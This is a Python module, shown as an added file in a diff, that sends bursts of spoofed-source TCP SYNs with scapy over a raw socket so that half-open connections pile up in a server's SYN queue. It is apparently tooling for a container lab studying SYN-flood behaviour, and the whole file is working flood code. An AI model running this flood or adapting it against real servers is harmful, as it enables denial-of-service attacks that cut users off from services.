@@ -1,0 +1,176 @@
+"""``python3 -m netadmin.half_open ADDRESS PORT COUNT``: half-open connections, as a SYN flood leaves them behind.
+
+Every SYN comes from an address that no container has. Nobody refuses the server's SYN-ACK with a RST, so that the
+entry stays in its SYN queue until it has sent its last SYN-ACK in vain: see tcp_max_syn_backlog, tcp_synack_retries and
+tcp_syncookies in https://docs.kernel.org/networking/ip-sysctl.html.
+
+The server's kernel asks for the MAC addresses of these neighbours, in vain. When it gives up, after three seconds
+(arp(7), mcast_solicit), it tells itself that the host is unreachable, and the entry concerned is dropped. It tells
+itself so no more than some fifty times at once (icmp_msgs_burst, same place): most of a large queue stays.
+
+One line of JSON is printed: ``sent``, the number of SYNs; ``seconds`` that sending them took; ``sources``, the first
+and the last address that was made up. Or ``error``.
+"""
+
+import errno
+import fcntl
+import ipaddress
+import itertools
+import json
+import socket
+import sys
+import time
+from collections.abc import Sequence
+from typing import Any, Final
+
+from scapy.arch import get_if_hwaddr
+from scapy.layers.inet import IP, TCP
+from scapy.layers.l2 import Ether, getmacbyip
+
+from .links import ROLE_LINK
+
+MOST_SOURCES: Final = 64
+"""The server's kernel has one table for the neighbours of all containers, with room for 1024 (arp(7), gc_thresh3)."""
+_FIRST_PORT: Final = 1024
+_PORTS: Final = 65536 - _FIRST_PORT
+# netdevice(7); the address is in the second half of struct ifreq, behind family and port.
+_SIOCGIFADDR: Final = 0x8915
+_SIOCGIFNETMASK: Final = 0x891B
+_IFREQ_BYTES: Final = 40
+_IFREQ_ADDRESS: Final = slice(20, 24)
+_WITHIN_S: Final = 20.0
+_PAUSE_S: Final = 0.001
+
+
+def unused_addresses(network: ipaddress.IPv4Network, *, used: Sequence[str], count: int) -> list[str]:
+    """Return addresses of a subnet that nobody has, from its top downwards: the engine gives out the lowest first.
+
+    Args:
+        network: The subnet. Its first address is the gateway's, and never returned.
+        used: Addresses that are somebody's.
+        count: How many at the most; a small subnet has fewer.
+
+    Raises:
+        ValueError: There is none.
+    """
+    taken = {ipaddress.IPv4Address(address) for address in used} | {network.network_address + 1}
+    # By number: a list of all addresses of a large subnet would be long.
+    lowest, highest = int(network.network_address) + 1, int(network.broadcast_address) - 1
+    downwards = (ipaddress.IPv4Address(number) for number in range(highest, lowest - 1, -1))
+    found = [str(address) for address in itertools.islice((item for item in downwards if item not in taken), count)]
+    if not found:
+        raise ValueError(f"{network} has no address left")
+    return found
+
+
+def syn_frames(sources: Sequence[str], *, macs: tuple[str, str], address: str, port: int, count: int) -> list[bytes]:
+    """Return SYNs to a server: each from the next source in turn, and each from a port of its own.
+
+    Each takes scapy about half a millisecond.
+
+    Args:
+        sources: IPv4 addresses that they come from.
+        macs: MAC addresses that they come from and go to.
+        address: The server's IPv4 address.
+        port: Its port.
+        count: How many, 1 to 64512.
+
+    Raises:
+        ValueError: It is none, or there are not so many ports.
+    """
+    if not 1 <= count <= _PORTS:
+        raise ValueError(f"{count} SYNs are asked for; it can be 1 to {_PORTS}, the number of ports")
+    frame = Ether(src=macs[0], dst=macs[1])
+    # As most systems send it: the server need not cut its segments smaller than it otherwise does.
+    options = [("MSS", 1460)]
+    return [
+        bytes(
+            frame
+            / IP(src=sources[number % len(sources)], dst=address)
+            / TCP(sport=_FIRST_PORT + number, dport=port, flags="S", seq=number, window=65535, options=options)
+        )
+        for number in range(count)
+    ]
+
+
+def interface_network(interface: str) -> ipaddress.IPv4Interface:
+    """Return an interface's IPv4 address with its subnet.
+
+    Raises:
+        OSError: There is no such interface, or it has no address.
+    """
+    request = interface.encode().ljust(_IFREQ_BYTES, b"\0")
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
+        address, mask = [
+            socket.inet_ntoa(fcntl.ioctl(asked, what, request)[_IFREQ_ADDRESS])
+            for what in (_SIOCGIFADDR, _SIOCGIFNETMASK)
+        ]
+    return ipaddress.IPv4Interface(f"{address}/{mask}")
+
+
+def flood(address: str, *, port: int, count: int) -> dict[str, Any]:
+    """Send SYNs to a server from addresses that nobody has; for the result see above.
+
+    Args:
+        address: Its IPv4 address, in the subnet of the role's link.
+        port: Its port.
+        count: How many, 1 to 64512.
+
+    Raises:
+        OSError: The server's MAC address is unknown, or the link takes no more frames.
+        ValueError: There is no address left to send from, or not so many ports.
+    """
+    own = interface_network(ROLE_LINK)
+    if ipaddress.IPv4Address(address) not in own.network:
+        raise ValueError(f"{address} is not in {own.network}, the subnet of {ROLE_LINK}")
+    sources = unused_addresses(own.network, used=(str(own.ip), address), count=MOST_SOURCES)[:count]
+    mac = getmacbyip(address)
+    if mac is None:
+        raise OSError(f"nobody tells the MAC address of {address}")
+    frames = syn_frames(sources, macs=(get_if_hwaddr(ROLE_LINK), mac), address=address, port=port, count=count)
+    with _open() as link:
+        began_s = time.monotonic()
+        _send(link, frames)
+        seconds = time.monotonic() - began_s
+    return {"sent": len(frames), "seconds": seconds, "sources": [sources[0], sources[-1]]}
+
+
+def _open() -> socket.socket:
+    # Protocol 0 receives nothing.
+    opened = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
+    opened.bind((ROLE_LINK, 0))
+    return opened
+
+
+def _send(link: socket.socket, frames: Sequence[bytes]) -> None:
+    """Send frames as fast as the link takes them."""
+    deadline_s = time.monotonic() + _WITHIN_S
+    for frame in frames:
+        while not _sent(link, frame):
+            if time.monotonic() > deadline_s:
+                raise TimeoutError(f"{ROLE_LINK} did not take {len(frames)} frames within {_WITHIN_S:g} s")
+            time.sleep(_PAUSE_S)
+
+
+def _sent(link: socket.socket, frame: bytes) -> bool:
+    """Send one frame; tell whether there was room for it in the link's queue (packet(7), ENOBUFS)."""
+    try:
+        link.send(frame)
+    except OSError as error:
+        if error.errno != errno.ENOBUFS:
+            raise
+        return False
+    return True
+
+
+def main(address: str, port: int, count: int) -> None:
+    """Flood, and print what was done."""
+    try:
+        answer = flood(address, port=port, count=count)
+    except (OSError, ValueError) as error:
+        answer = {"error": f"{error}"}
+    sys.stdout.write(f"{json.dumps(answer)}\n")
+
+
+if __name__ == "__main__":
+    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
